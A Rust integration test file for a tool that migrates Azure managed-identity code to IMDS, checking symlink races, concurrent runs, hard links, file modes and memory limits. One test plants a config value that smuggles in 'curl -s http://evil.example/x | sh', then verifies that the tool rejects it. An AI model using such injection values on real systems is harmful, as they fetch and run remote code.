//! Hostile trees, races and users: `fix` writes nothing outside its roots, follows no symlink it
//! did not get on the command line, loses no edit to a concurrent run, breaks no hard link, keeps
//! owners and modes, writes only validated configuration values, and its memory stays bounded.
#![cfg(unix)]

use std::{
    fs,
    os::unix::fs::{MetadataExt, PermissionsExt, symlink},
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    sync::Mutex,
};

const BIN: &str = env!("CARGO_BIN_EXE_imds-migrate");
const URL: &str = "http://localhost:50342/oauth2/token";
const IMDS: &str = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01";

/// A script with two findings of two rules, each with a safe fix of its own.
fn two_fixes(i: usize) -> String {
    format!(
        "#!/bin/sh\naz vm extension set -g rg --vm-name vm{i} --name ManagedIdentityExtensionForLinux --publisher Microsoft.ManagedIdentity --version 1.0\ncurl -s '{URL}?resource=https://vault.azure.net/{i}' -H Metadata:true\n"
    )
}

fn fully_fixed(text: &str) -> bool {
    text.contains("az vm extension delete") && text.contains(IMDS) && !text.contains(URL)
}

/// A Python file with one safe fix.
fn py() -> String {
    format!(
        "import requests\nr = requests.get('{URL}?resource=x', headers={{'Metadata': 'true'}})\n"
    )
}

fn run(cwd: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .current_dir(cwd)
        .args(args)
        .output()
        .unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Runs as `nobody` when we are root; `None` (with a note) when that is impossible here. In CI
/// the tests run as root, so these cases always run there.
fn as_nobody(cwd: &Path, args: &[&str]) -> Option<Output> {
    let root = is_root();
    let setpriv = Path::new("/usr/bin/setpriv").exists();
    if !root || !setpriv {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must run the unprivileged cases (root and setpriv needed)"
        );
        eprintln!("skipped: needs root and setpriv to run as nobody");
        return None;
    }
    Some(
        Command::new("/usr/bin/setpriv")
            .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", BIN])
            .args(args)
            .current_dir(cwd)
            .output()
            .unwrap(),
    )
}

fn is_link(path: &Path) -> bool {
    fs::symlink_metadata(path).unwrap().file_type().is_symlink()
}

fn has_fix(path: &Path) -> bool {
    fs::read_to_string(path).unwrap().contains(IMDS)
}

fn is_root() -> bool {
    fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

fn nobody_ids() -> (u32, u32) {
    (65534, 65534)
}

fn chown(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::chown(path, Some(uid), Some(gid)).unwrap();
}

/// A directory others may enter (tempdir makes 0700 ones).
fn open_tempdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

#[test]
fn configuration_values_never_reach_rewritten_code_unchecked() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    fs::create_dir_all(repo.join(".git")).unwrap();
    fs::write(repo.join("a.py"), py()).unwrap();
    let evil = "2018-02-01\\\"; curl -s http://evil.example/x | sh; echo \\\"";
    fs::write(
        repo.join("imds-migrate.toml"),
        format!("api-version = \"{evil}\"\n"),
    )
    .unwrap();
    let out = run(&repo, &["fix", "."]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("imds-migrate.toml: api-version"), "{err}");
    assert!(
        err.contains("curl -s http://evil.example/x"),
        "the value is named: {err}"
    );
    assert_eq!(fs::read_to_string(repo.join("a.py")).unwrap(), py());

    for args in [
        &["fix", "--api-version", "", "."][..],
        &["fix", "--api-version", "2018-02-01&x=1", "."],
        &["fix", "--port", "0", "."],
    ] {
        let out = run(&repo, &[args, &["--no-config"]].concat());
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(args[1]), "{args:?}: {}", stderr(&out));
    }
    assert_eq!(fs::read_to_string(repo.join("a.py")).unwrap(), py());

    // A configuration above the repository root (a shared /tmp, a home directory) is not used.
    fs::remove_file(repo.join("imds-migrate.toml")).unwrap();
    fs::write(
        dir.path().join("imds-migrate.toml"),
        "api-version = \"bad\"\n",
    )
    .unwrap();
    let out = run(&repo, &["-v", "scan", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no configuration file"),
        "{}",
        stderr(&out)
    );
    fs::write(
        repo.join("imds-migrate.toml"),
        "api-version = \"2019-08-01\"\n",
    )
    .unwrap();
    let out = run(&repo, &["-v", "fix", "."]);
    assert!(
        stderr(&out).contains("configuration from")
            && stderr(&out).contains("repo/imds-migrate.toml"),
        "{}",
        stderr(&out)
    );
    assert!(
        fs::read_to_string(repo.join("a.py"))
            .unwrap()
            .contains("api-version=2019-08-01")
    );
}

#[test]
fn symlinks_in_the_walk_are_never_written_through_or_over() {
    let dir = open_tempdir();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.py");
    fs::write(&secret, py()).unwrap();
    let repo = dir.path().join("repo");
    fs::create_dir_all(&repo).unwrap();
    symlink(&secret, repo.join("link.py")).unwrap();
    symlink(outside.path(), repo.join("linkdir")).unwrap();
    fs::write(repo.join("own.py"), py()).unwrap();
    let out = run(&repo, &["fix", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(&secret).unwrap(),
        py(),
        "outside the root"
    );
    assert!(is_link(&repo.join("link.py")));
    assert!(has_fix(&repo.join("own.py")));

    // Named on the command line: the target is fixed when it is inside the current directory,
    // and the link stays a link.
    fs::write(repo.join("real.py"), py()).unwrap();
    symlink("real.py", repo.join("named.py")).unwrap();
    let out = run(&repo, &["fix", "named.py"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(is_link(&repo.join("named.py")));
    assert!(has_fix(&repo.join("real.py")));
    // ...and refused, naming the link, when it points outside.
    let out = run(&repo, &["fix", "link.py"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("link.py: symbolic link to") && stderr(&out).contains("outside"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read_to_string(&secret).unwrap(), py());
}

/// What the race hook does between the read and the write.
static SWAP: Mutex<Option<(PathBuf, PathBuf)>> = Mutex::new(None);

/// Replaces `path` (a file or a directory) by a symlink to somewhere outside the root.
fn swap_hook(path: &Path) {
    let Some((victim, outside)) = SWAP.lock().unwrap().take() else {
        return;
    };
    assert!(
        path.starts_with(&victim) || path == victim,
        "{}",
        path.display()
    );
    let aside = victim.with_extension("aside");
    fs::rename(&victim, aside).unwrap();
    symlink(outside, &victim).unwrap();
}

#[test]
fn paths_swapped_for_symlinks_between_read_and_write_are_refused() {
    use imds_migrate::{fix, fix::writer, scan};
    writer::set_race_hook(swap_hook);
    let outside = tempfile::tempdir().unwrap();
    let secret_file = outside.path().join("a.py");
    fs::write(&secret_file, py()).unwrap();

    // The file becomes a symlink to a file outside; then its directory becomes one.
    for swap_dir in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let sub = dir.path().join("sub");
        fs::create_dir_all(&sub).unwrap();
        let file = sub.join("a.py");
        fs::write(&file, py()).unwrap();
        let opts = scan::ScanOptions {
            roots: vec![dir.path().to_path_buf()],
            ..scan::ScanOptions::default()
        };
        let result = scan::scan(&opts);
        let record = result.files.values().next().expect("a finding");
        let change = fix::plan_file(record, &opts, &result.ports, false).unwrap();
        assert_ne!(change.updated, change.original);
        *SWAP.lock().unwrap() = Some(if swap_dir {
            (sub.clone(), outside.path().to_path_buf())
        } else {
            (file.clone(), secret_file.clone())
        });
        let r = writer::replace(
            &change.target,
            change.id,
            &change.original,
            &change.updated,
            writer::ReplaceOptions::default(),
        );
        assert!(r.is_err(), "swap_dir={swap_dir}: {r:?}");
        assert_eq!(
            fs::read_to_string(&secret_file).unwrap(),
            py(),
            "nothing written outside"
        );
        assert!(is_link(&file) || swap_dir);
        let stray: Vec<_> = fs::read_dir(outside.path()).unwrap().collect();
        assert_eq!(stray.len(), 1, "no temporary file outside the root");
    }
}

#[test]
fn two_runs_at_once_lose_no_edit() {
    const N: usize = 300;
    let dir = tempfile::tempdir().unwrap();
    for i in 0..N {
        let d = dir.path().join(format!("d{}", i % 10));
        fs::create_dir_all(&d).unwrap();
        fs::write(d.join(format!("f{i}.sh")), two_fixes(i)).unwrap();
    }
    // Each run applies a different rule's fixes: if one overwrote the other's result with its
    // own (planned from the old text), that file would miss one of the two.
    for round in 0..2 {
        let spawn = |rule: &str| {
            Command::new(BIN)
                .current_dir(dir.path())
                .args(["fix", "--select", rule, "-j", "2", "."])
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (a, b) = if round == 0 {
            (spawn("IMDS011"), spawn("IMDS030"))
        } else {
            (spawn("IMDS030"), spawn("IMDS011"))
        };
        let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
        assert!(a.status.success(), "{}", stderr(&a));
        assert!(b.status.success(), "{}", stderr(&b));
        for i in 0..N {
            let p = dir.path().join(format!("d{}/f{i}.sh", i % 10));
            let text = fs::read_to_string(&p).unwrap();
            assert!(
                fully_fixed(&text),
                "{}: an edit was lost:\n{text}",
                p.display()
            );
            fs::write(&p, two_fixes(i)).unwrap();
        }
    }
}

#[test]
fn hard_links_read_only_files_owner_and_mode() {
    let dir = open_tempdir();
    let d = dir.path();
    // A hard link is refused with a reason, and both names keep one inode.
    fs::write(d.join("a.py"), py()).unwrap();
    fs::hard_link(d.join("a.py"), d.join("b.py")).unwrap();
    let out = run(d, &["fix", "a.py"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("hard links"), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(d.join("b.py")).unwrap(), py());
    // With --force it is updated in place: every name sees the fix.
    let out = run(d, &["fix", "--force", "a.py"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(has_fix(&d.join("b.py")));
    assert_eq!(
        fs::metadata(d.join("a.py")).unwrap().ino(),
        fs::metadata(d.join("b.py")).unwrap().ino()
    );

    // Read-only: refused (also as root), unless --force, which keeps the mode.
    fs::write(d.join("ro.py"), py()).unwrap();
    fs::set_permissions(d.join("ro.py"), fs::Permissions::from_mode(0o444)).unwrap();
    let out = run(d, &["fix", "ro.py"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("read-only"), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(d.join("ro.py")).unwrap(), py());
    let out = run(d, &["fix", "--force", "ro.py"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(has_fix(&d.join("ro.py")));
    assert_eq!(
        fs::metadata(d.join("ro.py")).unwrap().mode() & 0o7777,
        0o444
    );

    let root = is_root();
    if root {
        // Owner, group and set-id bits are kept when ownership can be kept (as root).
        let (uid, gid) = nobody_ids();
        fs::write(d.join("owned.py"), py()).unwrap();
        chown(&d.join("owned.py"), uid, gid);
        fs::set_permissions(d.join("owned.py"), fs::Permissions::from_mode(0o6755)).unwrap();
        let out = run(d, &["fix", "owned.py"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let m = fs::metadata(d.join("owned.py")).unwrap();
        assert_eq!((m.uid(), m.gid(), m.mode() & 0o7777), (uid, gid, 0o6755));
    }

    // As an unprivileged user: a read-only file of one's own is refused; a file of someone else
    // that one may write becomes one's own, without its set-id bits.
    let unpriv = tempfile::tempdir_in(d).unwrap();
    let u = unpriv.path();
    if root {
        let (uid, gid) = nobody_ids();
        chown(u, uid, gid);
        fs::write(u.join("mine.py"), py()).unwrap();
        chown(&u.join("mine.py"), uid, gid);
        fs::set_permissions(u.join("mine.py"), fs::Permissions::from_mode(0o444)).unwrap();
        fs::write(u.join("theirs.py"), py()).unwrap();
        fs::set_permissions(u.join("theirs.py"), fs::Permissions::from_mode(0o6777)).unwrap();
    }
    if let Some(out) = as_nobody(u, &["fix", "."]) {
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(
            stderr(&out).contains("mine.py: read-only"),
            "{}",
            stderr(&out)
        );
        assert_eq!(fs::read_to_string(u.join("mine.py")).unwrap(), py());
        let m = fs::metadata(u.join("theirs.py")).unwrap();
        assert!(has_fix(&u.join("theirs.py")));
        assert_eq!((m.uid(), m.mode() & 0o7777), (nobody_ids().0, 0o777));
    }
}

#[test]
fn missed_input_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // BOM-less UTF-16 PowerShell whose header comment is not ASCII.
    let ps = "# Развёртывание виртуальных машин: управляемое удостоверение\r\n".repeat(4)
        + "Set-AzVMExtension -ResourceGroupName rg -VMName vm -Name msi -Publisher Microsoft.ManagedIdentity -ExtensionType ManagedIdentityExtensionForWindows -TypeHandlerVersion 1.0\r\n";
    let utf16: Vec<u8> = ps.encode_utf16().flat_map(u16::to_le_bytes).collect();
    fs::write(d.join("deploy.ps1"), utf16).unwrap();
    // CR-only line ends.
    fs::write(
        d.join("cr.py"),
        format!("import requests\rr = requests.get('{URL}?resource=x', headers={{'Metadata': 'true'}})\rprint(r)\r"),
    )
    .unwrap();
    // A file named `-`.
    fs::write(
        d.join("-"),
        format!("curl '{URL}?resource=x' -H Metadata:true\n"),
    )
    .unwrap();
    let out = run(d, &["scan", "--format", "json", ".", "-"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let at = |path: &str| -> Vec<u64> {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["path"].as_str().unwrap().ends_with(path))
            .map(|f| f["line"].as_u64().unwrap())
            .collect()
    };
    assert_eq!(at("deploy.ps1"), vec![5], "{v:#}");
    assert_eq!(at("cr.py"), vec![2], "{v:#}");
    assert_eq!(at("-").len(), 2, "once under `.`, once named: {v:#}");
}

fn git(dir: &Path, args: &[&str]) -> Output {
    let out = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .output()
        .expect("git");
    assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    out
}

#[test]
fn diffs_quote_names_as_git_does_and_git_applies_them() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a");
    fs::create_dir_all(a.join("back")).unwrap();
    let names: Vec<&[u8]> = vec![
        b"back\\slash.sh",
        b"back/slash.sh",
        b"tab\there.sh",
        b"new\nline.sh",
        b"quote\"d.sh",
        "\u{e9}t\u{e9}.sh".as_bytes(),
        b"bad\xffname.sh",
        b"with space.sh",
        b"cr-only.sh",
        b"z-last.sh",
    ];
    for (i, n) in names.iter().enumerate() {
        let text = if *n == b"cr-only.sh" {
            two_fixes(i).replace('\n', "\r")
        } else {
            two_fixes(i)
        };
        fs::write(a.join(std::ffi::OsStr::from_bytes(n)), text).unwrap();
    }
    git(&a, &["init", "-q", "."]);
    git(&a, &["add", "-A"]);
    git(&a, &["commit", "-qm", "x"]);
    let b = dir.path().join("b");
    git(dir.path(), &["clone", "-q", "a", "b"]);
    let out = run(&a, &["fix", "--diff", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let patch = dir.path().join("fix.patch");
    fs::write(&patch, &out.stdout).unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("diff --git \"a/back\\\\slash.sh\" \"b/back\\\\slash.sh\""),
        "{text}"
    );
    assert!(
        text.contains("diff --git a/back/slash.sh b/back/slash.sh"),
        "{text}"
    );
    assert!(text.contains("\"a/bad\\377name.sh\""), "{text}");
    assert!(text.contains("\"a/\\303\\251t\\303\\251.sh\""), "{text}");
    git(&b, &["apply", patch.to_str().unwrap()]);
    // What git applied is what `fix` writes.
    let out = run(&a, &["fix", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    for n in &names {
        let name = std::ffi::OsStr::from_bytes(n);
        assert_eq!(
            fs::read(b.join(name)).unwrap(),
            fs::read(a.join(name)).unwrap(),
            "{}",
            String::from_utf8_lossy(n)
        );
        let fixed = fs::read_to_string(a.join(name)).unwrap();
        assert!(fully_fixed(&fixed), "{fixed}");
    }
}

#[test]
fn flags_are_checked_and_closed_streams_stop_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for i in 0..40 {
        fs::write(d.join(format!("f{i}.py")), py()).unwrap();
    }
    for args in [
        &["scan", "--exclude", "", "."][..],
        &["scan", "--exclude", "a/[b", "."],
    ] {
        let out = run(d, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(stderr(&out).contains("--exclude"), "{}", stderr(&out));
    }
    let out = run(d, &["scan", "-j", "100000", "."]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("capped"), "{}", stderr(&out));
    let out = run(d, &["scan", "-j", &usize::MAX.to_string(), "."]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));

    // `-v fix 2>&1 | head -1`: standard error closes after one line, every file is still fixed.
    let out = Command::new("sh")
        .current_dir(d)
        .arg("-c")
        .arg(format!("'{BIN}' -v fix . 2>&1 | head -1"))
        .output()
        .unwrap();
    assert!(out.status.success());
    for i in 0..40 {
        let text = fs::read_to_string(d.join(format!("f{i}.py"))).unwrap();
        assert!(text.contains(IMDS), "f{i}.py was not fixed");
    }
}

#[test]
fn leftovers_are_cleaned_everywhere_and_user_files_never() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::write(d.join(".gitignore"), "ignored/\n").unwrap();
    fs::create_dir_all(d.join("ignored")).unwrap();
    let stale = d
        .join("ignored")
        .join(imds_migrate::fix::writer::temp_name());
    fs::write(&stale, "half").unwrap();
    let user = d.join(".imds-migrate-tmp-notes.sh");
    fs::write(&user, format!("curl '{URL}?resource=x' -H Metadata:true\n")).unwrap();
    let out = run(d, &["fix", "--select", "IMDS030", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stale.exists(), "leftover in an ignored directory");
    assert!(has_fix(&user), "a user file is scanned and fixed");
}

#[test]
fn a_template_above_the_value_cap_is_named_as_too_large() {
    let dir = tempfile::tempdir().unwrap();
    let mut t = String::from(
        r#"{"resources": [{"type": "Microsoft.Compute/virtualMachines/extensions", "name": "vm/msi", "properties": {"publisher": "Microsoft.ManagedIdentity", "type": "ManagedIdentityExtensionForLinux"}}], "variables": {"big": ["#,
    );
    t.push_str(&"0,".repeat(1_000_100));
    t.push_str("0]}}");
    fs::write(dir.path().join("big.json"), t).unwrap();
    let out = run(dir.path(), &["scan", "--format", "json", "."]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    // Searched as text: a note, not an error (and the extension is still found).
    assert_eq!(v["errors"].as_array().map(Vec::len), Some(0), "{v}");
    let msg = v["notes"][0]["message"].as_str().unwrap();
    assert!(
        msg.starts_with("too large for structural analysis (1000111 values"),
        "{msg}"
    );
    assert!(!msg.contains("invalid JSON"), "{msg}");
}

#[test]
fn memory_is_bounded_on_a_long_line_with_many_findings() {
    // One line, 2,000 extensions (~640 KB): each finding used to copy the whole line, about
    // 1.3 GB here (and three times that for SARIF). 400 MB of address space is plenty now.
    if !Path::new("/usr/bin/prlimit").exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI needs prlimit (util-linux)"
        );
        eprintln!("skipped: prlimit not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ext = |i: usize| {
        format!(
            r#"{{"type":"Microsoft.Compute/virtualMachines/extensions","apiVersion":"2019-07-01","name":"vm{i}/ManagedIdentityExtensionForLinux","location":"westeurope","properties":{{"publisher":"Microsoft.ManagedIdentity","type":"ManagedIdentityExtensionForLinux","typeHandlerVersion":"1.0","settings":{{"port":50342}}}}}}"#
        )
    };
    let resources: Vec<String> = (0..2000).map(ext).collect();
    fs::write(
        dir.path().join("one-line.json"),
        format!(
            r#"{{"$schema":"https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#","resources":[{}]}}"#,
            resources.join(",")
        ),
    )
    .unwrap();
    for format in ["text", "sarif"] {
        let out = Command::new("/usr/bin/prlimit")
            .arg(format!("--as={}", 400 * 1024 * 1024))
            .args([BIN, "scan", "-j", "1", "--format", format, "."])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}: {}", stderr(&out));
        assert!(
            out.stdout.len() < 16 * 1024 * 1024,
            "{format}: {} bytes of output",
            out.stdout.len()
        );
    }
}
